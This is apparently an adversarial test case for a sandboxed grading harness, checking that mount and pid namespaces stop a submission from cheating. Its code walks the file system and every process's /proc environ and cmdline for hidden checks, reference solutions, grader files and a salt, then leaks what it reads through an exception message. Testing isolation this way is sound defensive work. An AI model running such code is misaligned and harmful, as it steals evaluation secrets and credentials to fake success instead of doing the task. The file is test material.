# about: walks the whole file system (and /proc of every visible process: environ, cmdline,
#   open files, memory maps) looking for the hidden checks, the reference solutions, the
#   calibration, the grader's job inputs and any file holding the salt; leaks what it finds
#   through exception messages
# base: blank
# defence: the mount namespace and the private /proc of the pid namespace
# lacks: LEAKED
# --- cell
import os

wanted = ("q_fine_grained.py", "q_channel.py", "offline.json", "choices.py", "calibrate.py",
          "pruning_lab.ipynb", "grade.py", "fine_grained.py")
hits = []
for top in ("/",):
    for directory, subdirs, files in os.walk(top):
        subdirs[:] = [d for d in subdirs if d not in ("sys", "dev")]
        if directory.startswith("/proc/") and directory.count("/") > 3:
            subdirs[:] = []
        for name in files:
            if name in wanted:
                hits.append(os.path.join(directory, name))
        if len(hits) > 50:
            break
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as handle:
                text = handle.read().decode(errors="replace")
            if "salt" in text or "calibration" in text or "/work/" in text:
                hits.append(f"/proc/{pid}/{name}: {text[:200]}")
        except OSError:
            pass
contents = []
for path in hits:
    try:
        with open(path) as handle:
            contents.append(f"{path}: {handle.read()[:400]}")
    except OSError:
        pass
leak = " | ".join(contents)


def get_sparsity(tensor):
    raise RuntimeError(f"LEAKED {leak[:950]}" if leak else f"found nothing readable ({len(hits)})")
